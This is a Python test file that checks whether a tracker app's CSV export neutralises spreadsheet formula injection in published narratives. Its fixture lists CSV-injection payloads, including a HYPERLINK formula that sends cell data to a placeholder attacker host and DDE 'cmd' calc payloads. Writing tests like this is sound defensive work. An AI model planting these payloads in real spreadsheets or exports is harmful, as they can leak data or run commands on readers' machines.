"""A published text that starts like a spreadsheet formula reaches the CSV as text a
spreadsheet will show, not run (OWASP's CSV injection advice); the JSON keeps it as it is."""

import csv
import io
import json

from sqlalchemy import select

from tests.support.public_helpers import PLAN_ONE, publish_second_round
from tracker.extensions import db
from tracker.models import MeasureReport
from tracker.reporting.states import Status

HOSTILE = {
    1: '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")',
    2: "+47 22 24 90 90",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "\t=1+1",  # the formula after the tab gets its own quote: a reader may split on tabs
    6: "\r=1+1",
    7: "Vanlig tekst = helt trygg",
}


def publish_with_narratives():
    reporting_round = publish_second_round({number: Status.IN_PROGRESS for number in HOSTILE})
    for report in db.session.scalars(
        select(MeasureReport).where(MeasureReport.round_id == reporting_round.id)
    ):
        report.narrative = HOSTILE[report.measure.number]
    db.session.commit()


def test_formula_cells_are_prefixed_in_csv_and_kept_in_json(client, seeded):
    publish_with_narratives()
    rows = list(
        csv.DictReader(io.StringIO(client.get(PLAN_ONE + "/data/tiltak.csv").data.decode("utf-8")))
    )
    narratives = {int(row["number"]): row["narrative"] for row in rows[:7]}
    for number, text in HOSTILE.items():
        if number == 7:
            assert narratives[number] == text  # a formula character inside the text is harmless
        else:
            assert narratives[number].startswith("'" + text[0]), number
            assert narratives[number].replace("'", "") == text.replace("'", ""), number
    document = json.loads(client.get(PLAN_ONE + "/data/tiltak.json").get_data(as_text=True))
    assert {m["number"]: m["narrative"] for m in document["measures"][:7]} == HOSTILE


def test_the_about_page_explains_the_prefix(client, seeded):
    page = client.get(PLAN_ONE + "/om-dataene").get_data(as_text=True)
    assert "apostrof" in page and "formel" in page
